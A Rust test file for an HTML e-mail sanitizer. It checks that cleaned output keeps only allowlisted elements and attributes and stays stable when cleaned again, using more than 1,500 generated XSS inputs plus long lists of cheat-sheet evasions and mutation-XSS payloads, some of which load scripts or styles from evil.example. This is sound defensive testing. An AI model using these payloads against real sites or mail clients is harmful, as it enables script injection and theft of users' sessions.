//! B1: the ways past a filter that are known, tried on a mail's HTML one by one: the cheat sheets' evasions, and mutation XSS, where what
//! is harmless as it is parsed once is not once it was written out and parsed again.
//!
//! Nothing is searched for by the names of attacks. What comes out is read strictly: only elements and attributes that the list allows,
//! each attribute quoted, each address of a kind that is allowed; and cleaning it again changes nothing.

use std::collections::HashMap;

use super::clean::clean;

/// What may come out. Everything else is a way in.
const ELEMENTS: &[&str] = &[
    "a",
    "abbr",
    "acronym",
    "article",
    "aside",
    "b",
    "bdi",
    "bdo",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "data",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hgroup",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "mark",
    "nav",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "rtc",
    "ruby",
    "s",
    "samp",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "time",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
    "tfoot",
];
const ATTRIBUTES: &[&str] = &[
    "href", "rel", "hreflang", "title", "lang", "dir", "alt", "src", "width", "height", "align",
    "char", "charoff", "span", "datetime", "cite", "color", "size", "start", "type", "summary",
    "colspan", "headers", "rowspan", "scope", "abbr", "value", "valign", "noshade",
];

/// What is wrong with HTML that came out; the reader knows only what the cleaner writes.
fn faults(html: &str) -> Vec<String> {
    let mut faults = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let (is_end, tag) = match rest.strip_prefix('/') {
            Some(tag) => (true, tag),
            None => (false, rest),
        };
        let len = tag
            .find(|c: char| !c.is_ascii_alphanumeric())
            .unwrap_or(tag.len());
        let name = &tag[..len];
        if !ELEMENTS.contains(&name) {
            faults.push(format!(
                "element <{name}> in …<{}",
                rest.chars().take(60).collect::<String>()
            ));
            continue;
        }
        let mut inner = &tag[len..];
        loop {
            inner = inner.trim_start();
            if let Some(after) = inner.strip_prefix('>') {
                rest = after;
                break;
            }
            let Some((attribute, value)) = inner.split_once("=\"").filter(|_| !is_end) else {
                faults.push(format!(
                    "a broken tag: <{name} {}",
                    inner.chars().take(60).collect::<String>()
                ));
                break;
            };
            let Some((value, after)) = value.split_once('"') else {
                faults.push(format!("an open value of {attribute}"));
                break;
            };
            if !ATTRIBUTES.contains(&attribute) {
                faults.push(format!("attribute {attribute} of <{name}>"));
            }
            if !is_harmless(attribute, value) {
                faults.push(format!("{attribute}={value:?}"));
            }
            inner = after;
        }
    }
    faults
}

/// As browsers read an address: blanks at its ends and control characters anywhere don't count.
fn is_harmless(attribute: &str, value: &str) -> bool {
    let plain: String = value.chars().filter(|c| !c.is_control()).collect();
    let plain = plain.trim().to_lowercase();
    let begins = |all: &[&str]| all.iter().any(|scheme| plain.starts_with(scheme));
    match attribute {
        "href" => begins(&["http:", "https:", "mailto:", "tel:"]),
        "src" => begins(&["data:image/png;base64,"]),
        "cite" => false,
        _ => true,
    }
}

/// The tags that open something, with their attributes, in no order.
fn tags(html: &str) -> Vec<&str> {
    let mut tags: Vec<&str> = html
        .split('<')
        .skip(1)
        .filter(|tag| !tag.starts_with('/'))
        .map(|tag| tag.rsplit_once('>').map_or(tag, |(tag, _)| tag))
        .collect();
    tags.sort_unstable();
    tags
}

fn try_out(html: &str) {
    let logo = "data:image/png;base64,AAEC".to_owned();
    let pictures = || HashMap::from([("logo@x".to_owned(), logo.clone())]);
    let once = clean(html, pictures()).expect("small enough");
    let found = faults(&once);
    assert!(found.is_empty(), "{html:?}\n{once}\n{found:#?}");
    // The mail's own pictures are in it by now.
    let again = clean(&once, HashMap::new()).expect("small enough");
    let without = once.replace(&format!(" src=\"{logo}\""), "");
    // Headings and lists may nest otherwise, and line ends behind <pre> go; no tag and no attribute comes or goes.
    assert_eq!(
        tags(&again),
        tags(&without),
        "{html:?} reads otherwise a second time"
    );
    assert_eq!(faults(&again), Vec::<String>::new(), "{html:?}");
}

#[test]
fn b1_the_reader_of_this_test_knows_what_is_wrong() {
    for html in [
        "<script>alert(1)</script>",
        "<p onclick=\"x\">y</p>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"//evil.example\">x</a>",
        "<img src=\"http://evil.example/\">",
        "<img src=x>",
        "<p title=\"open>",
        "<svg></svg>",
        "<p style=\"x\">y</p>",
    ] {
        assert!(!faults(html).is_empty(), "{html}");
    }
    assert!(
        faults("<p title=\"a > b\">1 &lt; 2</p><a href=\"https://x.example/\">x</a>").is_empty()
    );
}

#[test]
fn b1_the_cheat_sheets_evasions_come_to_nothing() {
    let mut all: Vec<String> = EVASIONS.iter().map(|html| (*html).to_owned()).collect();
    // Every control character and blank that browsers skip in and around a scheme.
    for code in (1..=0x20_u32).chain([0x7f, 0xa0, 0x1680, 0x2028, 0x2029, 0x3000, 0xfeff, 0x200b]) {
        let one = char::from_u32(code).unwrap();
        for address in [
            format!("{one}javascript:alert(1)"),
            format!("java{one}script:alert(1)"),
            format!("javascript{one}:alert(1)"),
            format!("java&#{code};script:alert(1)"),
            format!("&#x{code:x};javascript:alert(1)"),
            format!("&#{code:07}javascript:alert(1)"),
        ] {
            all.push(format!("<a href=\"{address}\">x</a>"));
            all.push(format!("<a href='{address}'>x</a>"));
            all.push(format!("<img src=\"{address}\">"));
        }
        all.push(format!("<img{one}src=x{one}onerror=alert(1)>"));
        all.push(format!("<{one}script>alert(1)</script>"));
        all.push(format!("<script{one}>alert(1)</script{one}>"));
        all.push(format!("<svg{one}onload=alert(1)>"));
        all.push(format!("<p onclick{one}=alert(1)>x"));
    }
    // Each scheme that runs something or brings somewhere, in three ways of writing.
    for scheme in [
        "javascript",
        "vbscript",
        "livescript",
        "mocha",
        "data",
        "blob",
        "file",
        "jar",
        "view-source",
        "wyciwyg",
        "feed:javascript",
        "x-javascript",
        "ms-its",
        "mhtml",
        "about",
        "resource",
        "chrome",
        "intent",
        "filesystem",
        "ws",
        "ftp",
    ] {
        let mixed: String = scheme
            .chars()
            .enumerate()
            .map(|(n, c)| {
                if n % 2 == 0 {
                    c.to_ascii_uppercase()
                } else {
                    c
                }
            })
            .collect();
        let coded: String = scheme
            .chars()
            .map(|c| format!("&#{};", u32::from(c)))
            .collect();
        for written in [scheme.to_owned(), mixed, coded] {
            for place in [
                "a href",
                "img src",
                "form action",
                "button formaction",
                "iframe src",
                "object data",
                "embed src",
                "link href",
                "base href",
                "body background",
                "table background",
                "video poster",
                "audio src",
                "input src",
                "q cite",
                "blockquote cite",
                "del cite",
                "svg xlink:href",
                "math href",
                "area href",
                "isindex action",
            ] {
                all.push(format!("<{place}=\"{written}:alert(1)\">x"));
            }
        }
    }
    assert!(all.len() > 1_500, "{}", all.len());
    for html in &all {
        try_out(html);
    }
}

#[test]
fn b1_what_changes_when_it_is_parsed_again_comes_to_nothing() {
    for html in MUTATIONS {
        try_out(html);
    }
    // Each element whose content browsers read by other rules, around each thing that runs, closed and left open, in each namespace.
    let payloads = [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "--><img src=x onerror=alert(1)>",
        "\"><img src=x onerror=alert(1)>",
        "<p title=\"</XX><img src=x onerror=alert(1)>\">",
        "<!--</XX><img src=x onerror=alert(1)>-->",
        "<a href=\"&lt;/XX&gt;&lt;img src=x onerror=alert(1)&gt;\">y</a>",
        "&lt;/XX&gt;&lt;img src=x onerror=alert(1)&gt;",
        "<![CDATA[</XX><img src=x onerror=alert(1)>]]>",
    ];
    for outer in [
        "",
        "svg",
        "math",
        "table",
        "select",
        "form",
        "p",
        "mtext",
        "annotation-xml",
        "foreignObject",
        "desc",
        "template",
    ] {
        for raw in [
            "style",
            "script",
            "noscript",
            "noembed",
            "noframes",
            "iframe",
            "xmp",
            "plaintext",
            "title",
            "textarea",
            "listing",
            "option",
            "mglyph",
            "malignmark",
            "template",
            "svg",
            "math",
            "math><mtext",
            "svg><foreignObject",
            "svg><desc",
            "math><annotation-xml encoding=\"text/html\"",
            "math><annotation-xml encoding=\"application/xhtml+xml\"",
        ] {
            for payload in payloads {
                let name = raw.split([' ', '>']).next().unwrap();
                let payload = payload.replace("XX", name);
                let open = if outer.is_empty() {
                    String::new()
                } else {
                    format!("<{outer}>")
                };
                try_out(&format!("{open}<{raw}>{payload}</{name}>"));
                try_out(&format!("{open}<{raw}>{payload}"));
            }
        }
    }
}

const EVASIONS: &[&str] = &[
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=data:,alert(1)></script>",
    "<script\n>alert(1)</script\n>",
    "<script >alert(1)</script foo>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<<script>alert(1);//\\<</script>",
    "<script src=http://evil.example/x.js?<b>",
    "<script src=//evil.example/.j>",
    "</title><script>alert(1);</script>",
    "</textarea><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert(1)\">",
    "<IMG SRC= onmouseover=\"alert(1)\">",
    "<IMG onmouseover=\"alert(1)\">",
    "<IMG SRC=/ onerror=\"alert(1)\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
    "<a href=\"jav&Tab;ascript:alert(1)\">x</a>",
    "<a href=\"jav&NewLine;ascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"javascript&#58alert(1)\">x</a>",
    "<a href='javas&#99;ript:alert(1)'>x</a>",
    "<a href=\"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>\">x</a>",
    "<a href=\"\\x6A\\x61vascript:alert(1)\">x</a>",
    "<a href=javascript:alert&lpar;1&rpar;>x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"\\\\evil.example\">x</a>",
    "<a href=\"/\\evil.example\">x</a>",
    "<a href=\"x\" onclick=alert(1)>x</a>",
    "<a onmouseover=alert(document.cookie)\\>x</a>",
    "<a href=# style=\"-moz-binding:url(http://evil.example/x.xml#xss)\">x</a>",
    "<a href='http://a.example' target=_blank rel=opener>x</a>",
    "<a ping=http://evil.example href=http://a.example>x</a>",
    "<a href=http://a.example/ id=config name=config>x</a>",
    "<form id=test><input id=attributes name=attributes></form>",
    "<img name=cookie><img id=location>",
    "<BODY BACKGROUND=\"javascript:alert(1)\">",
    "<BODY ONLOAD=alert(1)>",
    "<body onpageshow=alert(1) onhashchange=alert(1)>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<IMG DYNSRC=\"javascript:alert(1)\">",
    "<IMG LOWSRC=\"javascript:alert(1)\">",
    "<BGSOUND SRC=\"javascript:alert(1);\">",
    "<BR SIZE=\"&{alert(1)}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert(1);\">",
    "<LINK REL=\"stylesheet\" HREF=\"http://evil.example/x.css\">",
    "<STYLE>@import'http://evil.example/x.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://evil.example/x.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"http://evil.example/x.xml#xss\")}</STYLE>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert(1))\">",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<XSS STYLE=\"xss:expression(alert(1))\">",
    "<STYLE TYPE=\"text/javascript\">alert(1);</STYLE>",
    "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert(1)\")}</STYLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert(1))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061'\\0029\">",
    "<DIV STYLE=\"width: expression(alert(1));\">",
    "<div style=position:fixed;inset:0>Log in again</div>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert(1);\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert(1);\">",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert(1)</SCRIPT>\">",
    "<META charset=utf-7>+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-",
    "<IFRAME SRC=\"javascript:alert(1);\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(1)\"></IFRAME>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<iframe src=http://evil.example <",
    "<FRAMESET><FRAME SRC=\"javascript:alert(1);\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert(1)\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert(1)\">",
    "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
    "<![if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]>",
    "<BASE HREF=\"javascript:alert(1);//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://evil.example/x.html\"></OBJECT>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<applet code=x.class archive=http://evil.example/x.jar></applet>",
    "<XML ID=\"xss\"><I><B>&lt;IMG SRC=\"javas<!-- -->cript:alert(1)\"&gt;</B></I></XML>",
    "<XML SRC=\"x.xml\" ID=I></XML><SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>",
    "<HTML><BODY><?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\"><t:set attributeName=\"innerHTML\" to=\"XSS&lt;SCRIPT&gt;alert(1)&lt;/SCRIPT&gt;\"></BODY></HTML>",
    "<?xml version=\"1.0\"?><html:script xmlns:html=\"http://www.w3.org/1999/xhtml\">alert(1)</html:script>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<? echo('<SCR)'; echo('IPT>alert(1)</SCRIPT>'); ?>",
    "<input type=image src=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form><button formaction=javascript:alert(1)>x</form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<video poster=javascript:alert(1)//></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onpointerover=alert(1) onwheel=alert(1) onanimationstart=alert(1)>x</div>",
    "<p contenteditable autofocus onfocus=alert(1) tabindex=1>x</p>",
    "<p accesskey=x onclick=alert(1)>x</p>",
    "<p is=evil-element slot=x part=x>y</p>",
    "<x-evil>y</x-evil>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x\"/></svg>",
    "<svg><image href=http://evil.example/x.png></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style>@import url(http://evil.example)</style></svg>",
    "<svg><!-- --!><script>alert(1)</script></svg>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>",
    "<map><area href=javascript:alert(1) shape=default></map><img usemap=#x src=cid:logo@x>",
    "<img src=\"cid:logo@x\" onload=alert(1)>",
    "<img src=\"cid:logo@x\" srcset=\"http://evil.example/x.png 2x\">",
    "<img src=\"cid:logo@x\" crossorigin=use-credentials referrerpolicy=unsafe-url>",
    "<img src=\"cid:other@x\"><img src=\"CID:logo@x\"><img src=\" cid:<logo@x> \">",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img/src='x'/onerror='alert(1)'>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img title=\"><script>alert(1)</script>\">",
    "<img alt='\" onerror=\"alert(1)'>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<p lang='\" onclick=\"alert(1)'>x</p>",
    "<td headers='\"><script>alert(1)</script>'>x",
    "<a title='x\"onmouseover=\"alert(1)'>x</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<q cite=http://evil.example/track>x</q>",
    "<portal src=http://evil.example></portal>",
    "<fencedframe src=http://evil.example></fencedframe>",
    "<dialog open>Log in</dialog><slot name=x></slot>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<style>*{background:url(http://evil.example/x)}</style>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<comment><img src=\"</comment><img src=x onerror=alert(1)//\">",
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!--x--!><img src=x onerror=alert(1)>-->",
    "<!x><img src=x onerror=alert(1)>",
    "</x><img src=x onerror=alert(1)>",
    "</ script><img src=x onerror=alert(1)>",
    "<a href=\"http://a.example/\" http-equiv=x><b <script>alert(1)</script>0",
    "<div><br <div onmouseover=alert(1)>x",
    "<%<!--'%><script>alert(1);</script -->",
    "\u{3c}script\u{3e}alert(1)\u{3c}/script\u{3e}",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
    "\\u003cscript\\u003ealert(1)",
    "<a href=\"mailto:x@y.example?subject=<script>alert(1)</script>\">x</a>",
    "<a href='tel:\"><script>alert(1)</script>'>x</a>",
    "<a href=\"http://x.example/\"\"><script>alert(1)</script>\">x</a>",
    "<a href=\"https://x.example/&quot;onmouseover=&quot;alert(1)\">x</a>",
];

const MUTATIONS: &[&str] = &[
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><mglyph><style><![CDATA[</style><img src=x onerror=alert(1)>]]>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><style><img/src=x onerror=alert(1)></style>",
    "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<svg><desc><style></desc></svg><img src=x onerror=alert(1)>",
    "<svg><title><style></title></svg><img src=x onerror=alert(1)></style>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><annotation-xml><svg><style><!--</style></svg><img src=x onerror=alert(1)>-->",
    "<svg><annotation-xml><foreignobject><style><!--</style><p id=\"--><img src=x onerror=alert(1)>\">",
    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\">",
    "<table><tr><td><form><math><mtext></form></td></tr></table><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a><table><td></a><table></table><a></td></a></table><style><a title=\"</style><img src onerror=alert(1)>\">",
    "<p><svg><p><style><img title=\"</style><img src=x onerror=alert(1)>\">",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
    "<select><iframe><script>alert(1)</script></iframe></select>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<select><math><mtext></select><img src=x onerror=alert(1)>",
    "<template><style></template><img src=x onerror=alert(1)></style></template>",
    "<img alt=\"`` onerror=alert(1)\" src=cid:logo@x>",
    "<img alt=\"<x\" title=\"/><img src=1 onerror=alert(1)>\">",
    "<p title=\"&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;\">x</p>",
    "<listing>\n\n&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<pre>\n\n&lt;img src=x onerror=alert(1)&gt;</pre>",
    "<article xmlns=\"urn:img src=x onerror=alert(1)//\">x",
    "<article xmlns=\"><img src=x onerror=alert(1)\"></article>",
    "<p style=\"font-family:'\\22\\3bx:expression(alert(1))/*'\">x",
    "<b><p><a><table><tr></b><p></a></p></tr></table>x",
    "<a href=http://a.example/><a href=http://b.example/><p>x</a></p>",
    "<table><a href=http://a.example/><tr><td>x</a></table>",
    "<h1><h2><table><h3></h1></table></h2><li><dd><dt>x",
    "<ruby><rt><svg><rp></ruby><style></svg><img src=x onerror=alert(1)></style>",
    "<details><summary><math><mi></summary></details><style></math><img src=x onerror=alert(1)></style>",
];
